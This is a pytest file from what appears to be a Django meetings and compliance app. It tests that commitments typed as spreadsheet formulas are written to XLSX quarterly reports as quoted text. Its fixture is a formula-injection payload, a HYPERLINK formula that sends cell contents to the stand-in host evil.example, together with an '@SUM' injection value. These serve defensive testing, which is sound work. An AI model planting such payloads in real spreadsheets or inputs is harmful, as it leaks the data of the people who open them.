"""A commitment or question typed as a formula stays text in the XLSX reports."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from kezdesu.compliance.rules import Quarter
from kezdesu.core.actors import SYSTEM
from kezdesu.meetings.models import Commitment
from kezdesu.reports import selectors
from kezdesu.reports.renderers import render

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Answer")'


def test_no_formula_cell_in_the_quarterly_xlsx(q3):
    Commitment.objects.filter(meeting__in=q3.meetings).update(text=FORMULA, evidence="@SUM(A1:A9)")
    data = selectors.quarterly_data(user=SYSTEM, body=q3.health, quarter=Quarter(2026, 3), today=dt.date(2026, 10, 5))
    for lang in ("kk", "ru"):
        workbook = load_workbook(io.BytesIO(render(data, fmt="xlsx", lang=lang).content))
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        written = [c for c in cells if c.value == FORMULA]
        assert written and all(c.data_type == "s" and c.quotePrefix for c in written)
